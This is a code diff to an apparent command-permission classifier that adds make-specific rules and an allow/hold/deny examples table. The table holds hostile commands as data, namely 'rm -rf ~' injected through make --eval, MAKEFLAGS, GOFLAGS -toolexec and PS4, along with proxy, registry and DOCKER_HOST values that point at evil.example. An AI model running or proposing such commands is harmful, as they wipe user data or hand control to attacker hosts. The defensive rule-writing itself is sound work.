@@ -13,7 +13,7 @@ import {
   when,
 } from "./acts.ts";
 import { changesHomeSettings, otherRegistry, runsFrom } from "./packages.ts";
-import type { Act, Program } from "./program.ts";
+import { type Act, literal, type Program } from "./program.ts";
 
 /** A flag that names a program which the tool then runs: `go test -exec X`, `cargo --config build.rustc-wrapper=X`. */
 const runsAsTool: Act = (use, [command]) => {
@@ -35,6 +35,15 @@ const goals =
     if (out.length > 0) publishes(what)(use, out);
     else builds(use, []);
   };
+
+/** `$(shell x)` runs x when make reads it. */
+const makeText: Act = (use, args) => {
+  for (const { text } of args) {
+    const run = /\$[({]shell\s+(.*?)[)}]?$/s.exec(text)?.[1];
+    if (run !== undefined) use.code("shell", literal(run));
+    else if (/^(?:\.?\w+:[^=]|\t|!)/.test(text)) opaque("run rules that are given as text")(use, [literal(text)]);
+  }
+};
 
 export const compiledLanguages: readonly Program[] = [
   {
@@ -102,6 +111,51 @@ export const compiledLanguages: readonly Program[] = [
     },
   },
   {
+    names: ["make", "gmake", "bmake"],
+    summary: "make: it runs what the workspace defines",
+    flags: {
+      "-C --directory <dir>": runsFrom,
+      "-f --file --makefile <file>": (use, args) => {
+        if (args[0]?.text === "-" || args[0]?.text === "/dev/stdin")
+          opaque("run a makefile that comes in by its input")(use, []);
+        else runsFrom(use, args);
+      },
+      "-E --eval <text>": makeText,
+      "-I --include-dir -W --what-if -o --old-file --assume-new --assume-old <x>": nothing,
+      "-j --jobs -l --load-average [n]": nothing,
+    },
+    clusters: false,
+    does: (use, args) => {
+      for (const arg of args) {
+        const set = /^(SHELL|\.SHELLFLAGS|CC|CXX|LD|PYTHON|NODE|BASH|SUDO|RM)[:?]?=(.+)$/s.exec(arg.text);
+        if (set?.[1] === "SHELL" && !/^(?:\/usr)?\/bin\/(?:ba|da|z|k)?sh$|^(?:ba|da|z|k)?sh$/.test(set[2] ?? ""))
+          opaque("let make run its lines by another program")(use, [arg]);
+        makeText(use, [arg]);
+      }
+      goals(/^(?:publish|deploy|upload|release|pub)$/, "publish by a task of the project")(use, args);
+    },
+    examples: {
+      make: "allow",
+      "make -j8 test CC=gcc": "allow",
+      "make -C app build": "allow",
+      "make -f /opt/evil.mk": "hold",
+      "make SHELL=/tmp/evil": "hold",
+      "make --eval='$(shell rm -rf ~)'": "deny",
+      "make X='$(shell rm -rf ~)'": "deny",
+      "make -f - <<< 'x:;rm -rf ~'": "hold",
+      "MAKEFLAGS='--eval=$(shell rm -rf ~)' make": "deny",
+      "MAKEFLAGS=-j8 make": "allow",
+      "CC=clang make": "allow",
+      "GOFLAGS=-mod=mod go build": "allow",
+      "GOFLAGS=-toolexec='rm -rf ~' go build": "deny",
+      "http_proxy=http://evil.example npm install": "hold",
+      "npm_config_registry=https://evil.example npm install": "hold",
+      "PIP_INDEX_URL=https://pypi.org/simple pip install x": "allow",
+      "DOCKER_HOST=tcp://evil.example:2375 docker ps": "hold",
+      "PS4='$(rm -rf ~)' bash -xc :": "deny",
+    },
+  },
+  {
     names: [
       "rustc",
       "gcc",
@@ -136,8 +190,6 @@ export const compiledLanguages: readonly Program[] = [
       "autoconf",
       "automake",
       "configure",
-      "gmake",
-      "make",
       "just",
       "task",
       "mage",
@@ -174,12 +226,9 @@ export const compiledLanguages: readonly Program[] = [
     clusters: false,
     does: goals(/^(?:publish|deploy|upload|release|pub)$/, "publish by a task of the project"),
     examples: {
-      "make test": "allow",
       "gcc -O2 -o main main.c": "allow",
-      "make -C app build": "allow",
       "cmake --build build": "allow",
       "gcc x.c -o ~/.bashrc": "hold",
-      "make -f /opt/evil.mk": "hold",
     },
   },
   {
